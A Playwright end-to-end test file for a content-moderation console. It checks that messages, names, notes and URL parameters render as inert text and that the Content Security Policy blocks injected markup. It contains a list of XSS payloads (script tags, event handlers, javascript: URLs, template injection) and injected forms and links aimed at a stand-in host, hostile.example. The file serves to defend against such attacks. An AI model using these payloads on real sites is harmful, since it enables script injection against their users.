"""What others wrote is shown as they wrote it, wherever it stands, and does nothing."""

from datetime import timedelta
from urllib.parse import urlencode

from playwright.sync_api import Route, expect

from moderator.console.store.appeals import appeal
from moderator.console.store.database import Store
from moderator.console.store.outbox import mark_published, pick
from moderator.console.web.identity import Role
from moderator.console.web.plain_text import pieces
from tests.contract.console.scene import LEASE, NOW, arrival
from tests.e2e.console.conftest import Sit
from tests.e2e.console.seat import Seat
from tests.unit.console.web.at_work import suggests, waiting
from tests.unit.console.web.visitors import Clock

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//hostile.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//hostile.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)//https://hostile.example",
    "[click](javascript:alert(1)) https://hostile.example/page",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)><base href=//hostile.example/>",
    "<meta http-equiv=refresh content='0;url=//hostile.example'>",
    "<form action=//hostile.example><button data-key=a>",
    "<button data-key='a' formaction='//hostile.example'>",
    "<div hx-get='//hostile.example' hx-trigger=load>",
    "<style>@import '//hostile.example/x.css';</style>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title></style></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{ person }}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e",
    "\u202e<tpircs/>)1(trela<tpircs>\u202c \u2066x\u2069 \u200b\ufeff",
    "<\u0000script>alert(1)</script\u0000>",
    "<<script>script>alert(1)<</script>/script>",
]
AT_ONCE = 6  # in one message, so that fewer have to be opened
TEXTS = [
    "a harmless text",
    "another one",
    *("\n".join(HOSTILE[start : start + AT_ONCE]) for start in range(0, len(HOSTILE), AT_ONCE)),
]
WORST = "</textarea></title>'\"><img src=x onerror=alert(1)><svg onload=alert(1)>{{7*7}}"

ELEMENTS = "document.querySelectorAll('*:not(.unseen)').length"
ODD_ATTRIBUTES = """() => [...document.querySelectorAll("*")].flatMap((each) =>
  [...each.attributes].filter(({name, value}) => name.startsWith("on") || /^\\s*javascript:/i.test(value)))
  .map(({name, value}) => `${name}=${value}`).filter((each) => !each.startsWith("value="))"""


def as_shown(text: str) -> str:
    """What a page shows of it: every character, and those without looks by their codes."""
    return "".join(piece.text for piece in pieces(text)).strip()


def harmless(seat: Seat) -> None:
    """No element came from somewhere else than a template, none does anything by itself."""
    assert seat.page.locator("script:not([src^='/static/']), iframe, img, object, embed, base, style").count() == 0
    assert seat.page.evaluate(ODD_ATTRIBUTES) == []


def test_messages_are_shown_word_for_word(store: Store, sit: Sit) -> None:
    """Each page has the elements of a harmless message's page, and none more."""
    waiting(store, *(arrival(number, text=text) for number, text in enumerate(TEXTS, 1)))
    rosa = sit("Rosa", Role.REVIEWER)
    rosa.press("n")
    elements = {}
    for text in TEXTS:
        expect(rosa.text).to_have_text(as_shown(text), use_inner_text=True)
        assert rosa.text.evaluate("it => it.innerText") == as_shown(text)
        elements[text] = rosa.page.evaluate(ELEMENTS)
        harmless(rosa)
        rosa.press("a")
    rosa.is_told("Nothing waits for you")
    usual = elements[TEXTS[1]]  # the first page has nothing to undo
    assert {text: found for text, found in elements.items() if found != usual} == {TEXTS[0]: elements[TEXTS[0]]}


def test_words_of_all_others_are_text_too(store: Store, clock: Clock, sit: Sit) -> None:
    """A reviewer's name, the model's rationale and name, notes, reasons for skipping, an appellant's words, the
    message's own fields, and a thread.
    """
    words = {"author_id": WORST, "channel": WORST, "tenant": WORST, "language": '"><svg onload=alert(1)>'}
    first = arrival(1, text="the first", reply_to="m-2", **words)
    answered = arrival(2, text=WORST, **words)
    suggestion = {"outcome": "allow", "rationale": WORST}
    suggested = suggests(1, suggestion=suggestion).model_copy(update={"reviewer_id": WORST})
    waiting(store, first, answered, said=[suggested])
    rosa = sit('<img src=x onerror="alert(1)">', Role.REVIEWER)
    rosa.press("n")
    rosa.sees("the first")
    rosa.press("o")
    expect(rosa.page.locator(".around q")).to_have_text(WORST)
    expect(rosa.page.locator("#thread-heading ~ ol .said")).to_have_text(WORST)
    rosa.page.get_by_label("A note").fill(WORST)
    rosa.page.get_by_role("button", name="Keep the note").click()
    expect(rosa.page.locator("#notes-heading ~ div .said")).to_have_text(WORST)
    expect(rosa.page.locator(".who")).to_have_text('<img src=x onerror="alert(1)">')
    expect(rosa.page.locator(".facts-line")).to_contain_text(WORST)
    harmless(rosa)
    rosa.page.get_by_label("Why, for the record").fill(WORST)
    rosa.page.get_by_role("button", name="Allow").click()
    rosa.has_done(WORST)
    harmless(rosa)
    rosa.page.locator("summary", has_text="Skip").click()
    rosa.page.get_by_label("In your words").fill(WORST)
    rosa.page.get_by_role("button", name="Skip it for good").click()
    rosa.is_told("Nothing waits")

    clock.move(timedelta(minutes=1))
    mark_published(store, [each.number for each in pick(store, clock.now, LEASE, 100)], clock.now)
    with store.reading() as connection:
        verdict = connection.exec_driver_sql("SELECT standing FROM jobs WHERE id = 'e-1'").scalar_one()
    appeal(store, verdict, WORST, WORST, clock.now, NOW - timedelta(days=2))
    lea = sit("Lea", Role.LEAD)
    lea.press("n")
    lea.sees("the first")
    expect(lea.page.locator(".case .said")).to_have_text(WORST)
    harmless(lea)
    lea.press("a")
    lea.has_done(f"The first reviewer had said: allow: {WORST}")
    for path in ("/appeals", "/trail"):
        lea.go(path)
        expect(lea.page.get_by_text(WORST).first).to_be_attached()
        harmless(lea)


ADDRESSES = {
    "/review": ["label", "policy", "language", "source", "tenant", "go_by", "after"],
    "/review/break": ["after", "tenant"],
    "/appeals": ["verdict"],
    "/lead": ["period"],
    "/lead/thresholds": ["period"],
    "/trail": ["about", "actor", "step"],
    "/login": ["name"],
}


def test_an_address_can_carry_no_markup(store: Store, sit: Sit) -> None:
    """Whatever somebody puts into a link for a lead to follow."""
    waiting(store)
    lea = sit("Lea", Role.LEAD)
    for path, fields in ADDRESSES.items():
        words = WORST[:60] if path == "/login" else WORST
        lea.go(f"{path}?{urlencode(dict.fromkeys(fields, words))}")
        expect(lea.page.get_by_role("main")).to_be_visible()
        assert "49" not in lea.page.get_by_role("main").inner_text()
        harmless(lea)


def test_markup_that_got_through_would_do_nothing(store: Store, sit: Sit) -> None:
    """The page's policy holds by itself: no script, style, picture or form reaches anything."""
    waiting(store)
    rosa = sit("Rosa", Role.REVIEWER)
    leaked = (
        "<script>window.leaked = 1</script><img src='//hostile.example/1.gif' onerror='window.leaked = 1'>"
        "<style>body { color: rgb(1, 2, 3) }</style><base href='//hostile.example/'>"
        "<iframe src='//hostile.example/'></iframe><link rel=stylesheet href='//hostile.example/x.css'>"
        "<form method=post action='https://hostile.example/'><button id=hostile>send</button></form></main>"
    )

    def with_leak(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", leaked))

    left: list[str] = []

    def leaving(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    rosa.page.route("**/review", with_leak)
    rosa.page.route("**hostile.example/**", leaving)
    rosa.go("/review")
    rosa.page.locator("#hostile").dispatch_event("click")
    expect(rosa.page.get_by_role("button", name="Next message")).to_be_visible()
    assert rosa.page.evaluate("window.leaked") is None
    assert rosa.page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
    assert left == []
    assert any("Content Security Policy" in problem for problem in rosa.problems)
    rosa.problems.clear()  # the browser says what it refuses
